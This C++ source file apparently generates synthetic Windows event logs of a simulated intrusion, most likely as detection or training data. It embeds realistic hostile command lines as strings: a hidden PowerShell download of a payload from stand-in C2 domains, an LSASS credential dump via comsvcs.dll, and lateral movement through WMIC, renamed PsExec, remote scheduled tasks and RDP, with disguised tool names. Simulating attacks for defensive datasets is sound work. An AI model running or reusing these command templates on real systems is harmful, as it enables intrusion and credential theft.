#include "AttackChain.h"

#include "Catalog.h"

#include <algorithm>

namespace tt::gen {

namespace {
constexpr int64_t kSec = 1000000;
constexpr int64_t kMs = 1000;
constexpr int64_t kMin = 60 * kSec;

const char *const kDisguise[] = {"OneDriveUpdater", "wmiadap64", "RtkAudUService", "DiagTrackSvc", "msedgeupd",
    "SgrmAgent", "igfxCUIsvc", "AdobeARMhelper", "ctfmon64", "taskhostex"};
const char *const kC2[][2] = {{"cdn-telemetry-sync.com", "185.141.27.86"}, {"update-ms-office.net", "45.77.131.209"},
    {"static-cloudfront-api.org", "91.219.236.174"}};

std::string fileOf(const std::string &path)
{
    return std::string(Catalog::fileName(path));
}
} // namespace

std::string AttackChain::toolName()
{
    if (m_s.rng().chance(0.5))
        return std::string(m_s.rng().pick(kDisguise)) + ".exe";
    return m_s.randomName(6, 9) + ".exe";
}

int AttackChain::newTransfer(int src, int dst, const std::string &path, int account, const std::string &method,
    const std::string &share, int hop)
{
    Transfer t;
    t.category = Transfer::Category::Attack;
    t.src = src;
    t.dst = dst;
    t.path = path;
    t.file = fileOf(path);
    t.account = m_s.topo().domainOf(account, m_s.topo().host(dst)) + '\\' + m_s.topo().account(account).sam;
    t.method = method;
    t.direction = method == "rdp-tsclient" ? "pull" : "push";
    t.share = share;
    t.hop = hop;
    return m_s.addTransfer(std::move(t));
}

void AttackChain::run()
{
    const Topology &t = m_s.topo();
    Rng &r = m_s.rng();
    const auto &c2 = kC2[r.below(3)];
    m_c2Name = c2[0];
    m_c2Ip = c2[1];

    // Foothold: a workstation in the main office, mid-recording, mid-morning local time.
    std::vector<int> ws;
    for (int i : t.indicesOf(HostRole::Workstation))
        if (t.host(i).tzMinutes == t.mainTzMinutes())
            ws.push_back(i);
    if (ws.empty())
        ws = t.indicesOf(HostRole::Workstation);
    if (ws.empty())
        ws.push_back(t.windowsCount() - 1);
    const int first = ws[r.below(ws.size())];
    const int day = (m_s.days() - 1) / 2;
    const int64_t t0 = m_s.startUs() + day * 86400 * kSec + (9 * 60 + 20) * kMin
        + static_cast<int64_t>(r.below(90)) * kMin + static_cast<int64_t>(r.below(60000)) * kMs;

    // Targets: other workstations first, then servers, the last hop on a domain controller.
    std::vector<int> others, servers;
    for (const Host &h : t.hosts()) {
        if (h.index == first || h.role == HostRole::Linux)
            continue;
        if (h.role == HostRole::Workstation)
            others.push_back(h.index);
        else if (h.role != HostRole::DomainController)
            servers.push_back(h.index);
    }
    auto shuffle = [&](std::vector<int> &v) {
        for (size_t i = v.size(); i > 1; --i)
            std::swap(v[i - 1], v[r.below(i)]);
    };
    shuffle(others);
    shuffle(servers);
    // Enterprise: the local admin hops go first to workstations of the foothold's image (same
    // machine SID, same local admin name and password: what makes pass-the-hash work).
    if (t.localAdmin() >= 0)
        std::stable_partition(
            others.begin(), others.end(), [&](int i) { return t.host(i).image == t.host(first).image; });
    const int hops = m_s.hops();
    std::vector<int> targets;
    const int wsHops = std::min<int>(static_cast<int>(others.size()), std::max(1, (hops - 1) / 2));
    for (int i = 0; i < wsHops && static_cast<int>(targets.size()) < hops - 1; ++i)
        targets.push_back(others[static_cast<size_t>(i)]);
    for (int s : servers)
        if (static_cast<int>(targets.size()) < hops - 1)
            targets.push_back(s);
    for (size_t i = static_cast<size_t>(wsHops); i < others.size() && static_cast<int>(targets.size()) < hops - 1; ++i)
        targets.push_back(others[i]);
    const auto dcs = t.indicesOf(HostRole::DomainController);
    if (!dcs.empty() && dcs.front() != first)
        targets.push_back(dcs.front());
    else if (!others.empty())
        targets.push_back(others.back());
    while (static_cast<int>(targets.size()) > hops)
        targets.erase(targets.begin());

    const auto admins = t.accountsOf(AccountKind::ItAdmin);
    const int itAdmin = admins[r.below(admins.size())];
    const int svc = t.accountsOf(AccountKind::Service).front();
    const int da = t.accountsOf(AccountKind::DomainAdmin).front();

    Foothold fh = foothold(t0, first);
    int src = fh.host;
    Proc implant = fh.implant;
    m_s.pivots.push_back({fh.host, fh.implant, t0});
    int64_t now = t0 + static_cast<int64_t>(r.range(12, 25)) * kMin;
    const int64_t room = std::max<int64_t>(m_s.endUs() - now - 20 * kMin, 0);
    const int64_t gap = std::clamp<int64_t>(room / (hops + 1), 4 * kMin, 50 * kMin);
    const int rot = static_cast<int>(r.below(4));
    m_s.note("Attack: foothold on " + t.host(first).fqdn + " (" + t.host(first).ipAt(t0) + "), " + std::to_string(hops)
        + " hops; C2 " + m_c2Name + " (" + m_c2Ip + ").");
    for (int i = 0; i < static_cast<int>(targets.size()); ++i) {
        const int dst = targets[static_cast<size_t>(i)];
        int acct = i < (hops + 1) / 2 ? itAdmin : i < (3 * hops + 3) / 4 ? svc : da;
        // Enterprise: the workstation hops use the cloned images' local admin (same name and
        // SID on every host of an image), copied and run over C$ / WMI.
        const bool local = t.localAdmin() >= 0 && i < wsHops && t.host(dst).role == HostRole::Workstation;
        if (local)
            acct = t.localAdmin();
        Proc next;
        switch (local ? 0 : (i + rot) % 4) {
        case 0:
            next = hopCopyWmi(now, src, implant, dst, acct, i);
            break;
        case 1:
            next = hopPsexec(now, src, implant, dst, acct, i);
            break;
        case 2:
            next = hopAdminShareTask(now, src, implant, dst, acct, i);
            break;
        default:
            next = hopRdp(now, src, implant, dst, acct, i);
            break;
        }
        beacon(dst, now + 3 * kMin, next, true);
        m_s.pivots.push_back({dst, next, now});
        src = dst;
        implant = next;
        now += gap + static_cast<int64_t>(r.below(static_cast<uint64_t>(gap / 3 + 1)));
    }
    m_s.attackEndUs = now;
}

AttackChain::Foothold AttackChain::foothold(int64_t t0, int host)
{
    HostContext &c = m_s.ctx(host);
    EventFactory &f = m_s.f(host);
    Rng &r = m_s.rng();
    const Proc &ex = c.explorer();
    const std::string user = ex.subjectName;
    const Proc outlook
        = m_s.start(host, t0 - 25 * kMin, ex, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ");
    const std::string doc = "C:\\Users\\" + user + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
        + m_s.randomName(8, 8, true) + "\\Invoice_" + std::to_string(r.range(10000, 99999)) + ".docm";
    m_s.put(host, f.fileCreate(t0, outlook, doc));
    const Proc word
        = m_s.start(host, t0 + 20 * kSec, outlook, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"" + doc + "\" /o \"\"");
    const Proc ps
        = m_s.start(host, t0 + 41 * kSec, word, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell.exe -nop -w hidden -ep bypass -c \"IWR https://" + m_c2Name
                + "/cdn/v2/update.bin -OutFile $env:TEMP\\" + "msupd.exe\"");
    const std::string payload = "C:\\Users\\" + user + "\\AppData\\Local\\Temp\\msupd.exe";
    Transfer in;
    in.category = Transfer::Category::Ingress;
    in.dst = host;
    in.srcName = "external";
    in.srcIp = m_c2Ip;
    in.path = payload;
    in.file = "msupd.exe";
    in.account = ex.user;
    in.method = "other";
    in.direction = "pull";
    in.visibility = "dst-only";
    in.notes
        = "Stage-1 payload downloaded over HTTPS from " + m_c2Name + " by PowerShell started from a macro document.";
    const int tag = m_s.addTransfer(in);
    const std::string port = m_s.ephemeralPort();
    m_s.put(host, f.dnsQuery(t0 + 42 * kSec, ps, m_c2Name, "::ffff:" + m_c2Ip + ';'), tag);
    m_s.put(host,
        f.networkConnect(t0 + 42 * kSec + 80 * kMs, ps, true, m_s.topo().host(host).ipAt(t0), port, m_c2Ip, "443"),
        tag);
    m_s.put(host, f.fileCreate(t0 + 44 * kSec, ps, payload), tag);
    m_s.transfer(tag).utcUs = t0 + 44 * kSec + m_s.topo().host(host).skewUs;
    const Proc implant = m_s.start(host, t0 + 47 * kSec, ps, payload, "\"" + payload + "\"", tag);
    m_s.stop(host, t0 + 50 * kSec, ps);
    beacon(host, t0 + 50 * kSec, implant, true);
    // Credential theft: LSASS minidump through comsvcs.dll.
    const Proc dump = m_s.start(host, t0 + 9 * kMin, implant, "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump " + std::to_string(m_s.topo().host(host).lsassPid)
            + " C:\\ProgramData\\lsass.dmp full");
    m_s.put(host, f.fileCreate(t0 + 9 * kMin + 2 * kSec, dump, "C:\\ProgramData\\lsass.dmp"));
    m_s.stop(host, t0 + 9 * kMin + 5 * kSec, dump);
    return {host, implant};
}

void AttackChain::beacon(int host, int64_t us, const Proc &implant, bool recon)
{
    EventFactory &f = m_s.f(host);
    m_s.put(host, f.dnsQuery(us, implant, m_c2Name, "::ffff:" + m_c2Ip + ';'));
    m_s.put(host,
        f.networkConnect(
            us + 60 * kMs, implant, true, m_s.topo().host(host).ipAt(us), m_s.ephemeralPort(), m_c2Ip, "443"));
    if (recon) {
        const Proc cmd = m_s.start(host, us + 30 * kSec, implant, "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\system32\\cmd.exe /c \"whoami /all & net group \"Domain Admins\" /domain\"");
        const Proc net = m_s.start(
            host, us + 31 * kSec, cmd, "C:\\Windows\\System32\\net.exe", "net  group \"Domain Admins\" /domain");
        m_s.stop(host, us + 33 * kSec, net);
        m_s.stop(host, us + 34 * kSec, cmd);
    }
}

void AttackChain::explicitCreds(int src, int64_t us, const Proc &p, int dst, int account)
{
    if (p.subjectName == m_s.topo().account(account).sam)
        return;
    const Host &d = m_s.topo().host(dst);
    Logon target;
    target.sam = m_s.topo().account(account).sam;
    target.domain = m_s.topo().domainOf(account, d);
    m_s.put(src, m_s.f(src).explicitCredentials(us, p, target, d.name, "cifs/" + d.fqdn));
}

Proc AttackChain::hopCopyWmi(int64_t us, int src, const Proc &implant, int dst, int acct, int hop)
{
    const Topology &t = m_s.topo();
    const Host &d = t.host(dst);
    const std::string tool = toolName();
    const std::string stage = "C:\\ProgramData\\" + tool;
    // The local admin (pass-the-hash with the cloned images' one password) is NTLM by address.
    const bool byIp = m_s.rng().chance(0.4) || acct == t.localAdmin();
    const std::string target = byIp ? d.ipAt(us) : d.name;
    const bool xcopy = m_s.rng().chance(0.4);
    const std::string dir = xcopy ? "Users\\Public\\" : "ProgramData\\";
    const std::string path = "C:\\" + dir + tool;
    const int tag = newTransfer(src, dst, path, acct, "smb-admin-share", "\\\\*\\C$", hop);
    m_s.transfer(tag).srcPath = stage;
    m_s.put(src, m_s.f(src).fileCreate(us - 40 * kSec, implant, stage), tag);
    explicitCreds(src, us - 2 * kSec, implant, dst, acct);
    Proc cp;
    if (xcopy) {
        const Proc cmd = m_s.start(src, us - 200 * kMs, implant, "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\system32\\cmd.exe /c xcopy /y /q " + stage + " \\\\" + target + "\\C$\\Users\\Public\\", tag);
        cp = m_s.start(src, us, cmd, "C:\\Windows\\System32\\xcopy.exe",
            "xcopy  /y /q " + stage + " \\\\" + target + "\\C$\\Users\\Public\\", tag);
    } else {
        cp = m_s.start(src, us, implant, "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\system32\\cmd.exe /c copy /y " + stage + " \\\\" + target + "\\C$\\" + dir + tool, tag);
    }
    const Scenario::Session s = m_s.smbSession(src, dst, us + 150 * kMs, acct, byIp, tag, &cp);
    m_s.shareWrite(dst, us + 260 * kMs, s, "\\\\*\\C$", "\\??\\C:\\", dir + tool, path, tag);
    m_s.transfer(tag).utcUs = us + 271 * kMs + d.skewUs;
    m_s.stop(src, us + 2 * kSec, cp);
    m_s.logoff(dst, us + 14 * kSec, s);

    // Execution through WMI.
    const int64_t te = us + static_cast<int64_t>(m_s.rng().range(40, 150)) * kSec;
    const Proc wmic = m_s.start(src, te, implant, "C:\\Windows\\System32\\wbem\\WMIC.exe",
        "wmic  /node:\"" + target + "\" process call create \"" + path + "\"");
    const std::string rpcPort = m_s.ephemeralPort();
    m_s.put(
        src, m_s.f(src).networkConnect(te + 200 * kMs, wmic, true, t.host(src).ipAt(te), rpcPort, d.ipAt(te), "135"));
    HostContext &dc = m_s.ctx(dst);
    m_s.put(dst,
        m_s.f(dst).networkConnect(
            te + 230 * kMs, dc.svchostDcom(), false, t.host(src).ipAt(te), rpcPort, d.ipAt(te), "135"));
    Logon l = dc.logonFor(acct, 3, te, !byIp);
    l.ip = t.host(src).ipAt(te);
    l.port = m_s.ephemeralPort();
    m_s.put(dst, m_s.f(dst).logon(te + 250 * kMs, l));
    if (l.privileged)
        m_s.put(dst, m_s.f(dst).specialPrivileges(te + 250 * kMs, l));
    const Proc prv = m_s.start(dst, te + 400 * kMs, dc.svchostDcom(), "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding");
    Proc asUser = dc.userProc(te, acct, l.logonId, 0, "", "", true);
    Proc run = m_s.start(dst, te + 900 * kMs, prv, path, path, tag, &asUser);
    m_s.stop(src, te + 3 * kSec, wmic);
    return run;
}

Proc AttackChain::hopAdminShareTask(int64_t us, int src, const Proc &implant, int dst, int acct, int hop)
{
    const Topology &t = m_s.topo();
    const Host &d = t.host(dst);
    const std::string tool = toolName();
    const std::string stageDir = "C:\\ProgramData\\" + m_s.randomName(4, 6);
    const std::string path = "C:\\Windows\\Temp\\" + tool;
    const int tag = newTransfer(src, dst, path, acct, "smb-admin-share", "\\\\*\\ADMIN$", hop);
    m_s.transfer(tag).srcPath = stageDir + '\\' + tool;
    m_s.put(src, m_s.f(src).fileCreate(us - 50 * kSec, implant, stageDir + '\\' + tool), tag);
    explicitCreds(src, us - 2 * kSec, implant, dst, acct);
    const Proc cmd = m_s.start(src, us - 300 * kMs, implant, "C:\\Windows\\System32\\cmd.exe",
        "C:\\Windows\\system32\\cmd.exe /c robocopy " + stageDir + " \\\\" + d.name + "\\ADMIN$\\Temp " + tool
            + " /R:0 /W:0 /NJH /NJS",
        tag);
    const Proc robo = m_s.start(src, us, cmd, "C:\\Windows\\System32\\Robocopy.exe",
        "robocopy  " + stageDir + " \\\\" + d.name + "\\ADMIN$\\Temp " + tool + " /R:0 /W:0 /NJH /NJS", tag);
    const Scenario::Session s = m_s.smbSession(src, dst, us + 120 * kMs, acct, false, tag, &robo);
    m_s.shareWrite(dst, us + 240 * kMs, s, "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\" + tool, path, tag);
    m_s.transfer(tag).utcUs = us + 251 * kMs + d.skewUs;
    m_s.stop(src, us + 1500 * kMs, robo);
    m_s.stop(src, us + 1600 * kMs, cmd);

    // Execution through a remote scheduled task (task XML written by svchost: not a transfer).
    const int64_t te = us + static_cast<int64_t>(m_s.rng().range(30, 120)) * kSec;
    const std::string task
        = "\\Microsoft\\Windows\\WDI\\" + std::string(m_s.rng().chance(0.5) ? "SrvSetupCheck" : "DiagSync");
    const Proc st = m_s.start(src, te, implant, "C:\\Windows\\System32\\schtasks.exe",
        "schtasks  /create /s " + d.name + " /ru SYSTEM /tn \"" + task + "\" /tr \"" + path
            + "\" /sc once /st 23:59 /f");
    const Scenario::Session s2 = m_s.smbSession(src, dst, te + 100 * kMs, acct, false, -1, &st);
    m_s.put(dst, m_s.f(dst).shareAccess(te + 150 * kMs, s2.logon, "\\\\*\\IPC$", ""));
    Event pipe = m_s.f(dst).shareCheck(te + 160 * kMs, s2.logon, "\\\\*\\IPC$", "", "atsvc", 0x12019f);
    m_s.put(dst, std::move(pipe), -1, Trap::IpcPipeWrite);
    HostContext &dc = m_s.ctx(dst);
    m_s.put(dst, m_s.f(dst).fileCreate(te + 400 * kMs, dc.svchostSchedule(), "C:\\Windows\\System32\\Tasks" + task), -1,
        Trap::TaskXml);
    Proc run = m_s.start(dst, te + 6 * kSec, dc.svchostSchedule(), path, path, tag);
    m_s.stop(src, te + 1 * kSec, st);
    m_s.logoff(dst, te + 8 * kSec, s2);
    return run;
}

Proc AttackChain::hopPsexec(int64_t us, int src, const Proc &implant, int dst, int acct, int hop)
{
    const Topology &t = m_s.topo();
    const Host &d = t.host(dst);
    const std::string svcName = m_s.randomName(4, 4, true);
    const std::string svcBin = m_s.randomName(8, 8, true) + ".exe";
    const std::string tool = toolName();
    const std::string svcPath = "C:\\Windows\\" + svcBin;
    const std::string toolPath = "C:\\Windows\\" + tool;
    const int tagSvc = newTransfer(src, dst, svcPath, acct, "psexec-service-binary", "\\\\*\\ADMIN$", hop);
    m_s.transfer(tagSvc).notes
        = "Service binary of a renamed PsExec (-r " + svcName + "), installed as service " + svcName + '.';
    const int tagTool = newTransfer(src, dst, toolPath, acct, "smb-admin-share", "\\\\*\\ADMIN$", hop);
    m_s.transfer(tagTool).notes = "Copied by the same PsExec run (-c) to ADMIN$ and started by the service binary.";
    const std::string px = "C:\\ProgramData\\" + m_s.randomName(3, 5) + "64.exe";
    m_s.transfer(tagTool).srcPath = "C:\\ProgramData\\" + tool;
    m_s.put(src, m_s.f(src).fileCreate(us - 90 * kSec, implant, px), tagSvc);
    m_s.put(src, m_s.f(src).fileCreate(us - 60 * kSec, implant, "C:\\ProgramData\\" + tool), tagTool);
    explicitCreds(src, us - 2 * kSec, implant, dst, acct);
    const Proc p = m_s.start(src, us, implant, px,
        px + " \\\\" + d.name + " -accepteula -s -r " + svcName + " -c -f C:\\ProgramData\\" + tool, tagSvc);
    const Scenario::Session s = m_s.smbSession(src, dst, us + 150 * kMs, acct, false, tagSvc, &p);
    m_s.shareWrite(dst, us + 300 * kMs, s, "\\\\*\\ADMIN$", "\\??\\C:\\Windows", svcBin, svcPath, tagSvc);
    m_s.transfer(tagSvc).utcUs = us + 311 * kMs + d.skewUs;
    m_s.put(dst, m_s.f(dst).shareAccess(us + 500 * kMs, s.logon, "\\\\*\\IPC$", ""));
    m_s.put(dst, m_s.f(dst).shareCheck(us + 510 * kMs, s.logon, "\\\\*\\IPC$", "", "svcctl", 0x12019f), -1,
        Trap::IpcPipeWrite);
    Event sys = m_s.f(dst).serviceInstalled(us + 700 * kMs, s.logon, svcName, "%SystemRoot%\\" + svcBin);
    sys.userSid = t.account(acct).sid;
    sys.userName = t.account(acct).sam;
    sys.userDomain = t.netbios();
    m_s.put(dst, std::move(sys), tagSvc);
    m_s.put(
        dst, m_s.f(dst).serviceInstalledSecurity(us + 700 * kMs, s.logon, svcName, "%SystemRoot%\\" + svcBin), tagSvc);
    HostContext &dc = m_s.ctx(dst);
    const Proc svc = m_s.start(dst, us + 900 * kMs, dc.services(), svcPath, svcPath, tagSvc);
    // The -c copy of the tool, then its start by the service.
    m_s.shareWrite(dst, us + 1300 * kMs, s, "\\\\*\\ADMIN$", "\\??\\C:\\Windows", tool, toolPath, tagTool);
    m_s.transfer(tagTool).utcUs = us + 1311 * kMs + d.skewUs;
    Proc run = m_s.start(dst, us + 2 * kSec, svc, toolPath, "\"" + toolPath + "\"", tagTool);
    m_s.stop(src, us + 5 * kSec, p);
    m_s.logoff(dst, us + 20 * kSec, s);
    return run;
}

Proc AttackChain::hopRdp(int64_t us, int src, const Proc &implant, int dst, int acct, int hop)
{
    const Topology &t = m_s.topo();
    const Host &sh = t.host(src);
    const Host &d = t.host(dst);
    const std::string tool = toolName();
    const std::string acctSam = t.account(acct).sam;
    const std::string stage = "C:\\ProgramData\\" + tool;
    const std::string path = "C:\\Users\\" + acctSam + "\\AppData\\Local\\Temp\\" + tool;
    const int tag = newTransfer(src, dst, path, acct, "rdp-tsclient", "\\\\tsclient\\C", hop);
    m_s.transfer(tag).srcPath = stage;
    m_s.transfer(tag).notes = "Pulled on the RDP server from the client's redirected drive (\\\\tsclient\\C).";
    m_s.put(src, m_s.f(src).fileCreate(us - 70 * kSec, implant, stage), tag);
    explicitCreds(src, us - 3 * kSec, implant, dst, acct);
    const Proc mstsc = m_s.start(
        src, us, implant, "C:\\Windows\\System32\\mstsc.exe", "\"C:\\Windows\\system32\\mstsc.exe\" /v:" + d.name, tag);
    const std::string port = m_s.ephemeralPort();
    m_s.put(src, m_s.f(src).networkConnect(us + 500 * kMs, mstsc, true, sh.ipAt(us), port, d.ipAt(us), "3389"), tag);
    HostContext &dc = m_s.ctx(dst);
    m_s.put(dst,
        m_s.f(dst).networkConnect(us + 530 * kMs, dc.svchostTerm(), false, sh.ipAt(us), port, d.ipAt(us), "3389"), tag);
    Logon l = dc.logonFor(acct, 10, us + 4 * kSec, true);
    l.ip = sh.ipAt(us);
    l.port = "0";
    m_s.put(
        dst, m_s.f(dst).logon(us + 4 * kSec, l, "C:\\Windows\\System32\\svchost.exe", dc.svchostNetsvcs().pid), tag);
    if (l.privileged)
        m_s.put(dst, m_s.f(dst).specialPrivileges(us + 4 * kSec, l));
    const Proc session = dc.userProc(us + 5 * kSec, acct, l.logonId, 2, "C:\\Windows\\System32\\userinit.exe",
        "C:\\Windows\\system32\\userinit.exe", true);
    const Proc ex = m_s.start(dst, us + 6 * kSec, session, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
    const int64_t tc = us + static_cast<int64_t>(m_s.rng().range(40, 120)) * kSec;
    const Proc cmd = m_s.start(dst, tc, ex, "C:\\Windows\\System32\\cmd.exe",
        "\"C:\\Windows\\system32\\cmd.exe\" /c copy \\\\tsclient\\C\\ProgramData\\" + tool + " " + path, tag);
    m_s.put(dst, m_s.f(dst).fileCreate(tc + 900 * kMs, cmd, path), tag);
    m_s.transfer(tag).utcUs = tc + 900 * kMs + d.skewUs;
    m_s.stop(dst, tc + 1500 * kMs, cmd);
    Proc run = m_s.start(dst, tc + 20 * kSec, ex, path, "\"" + path + "\"", tag);
    return run;
}

} // namespace tt::gen
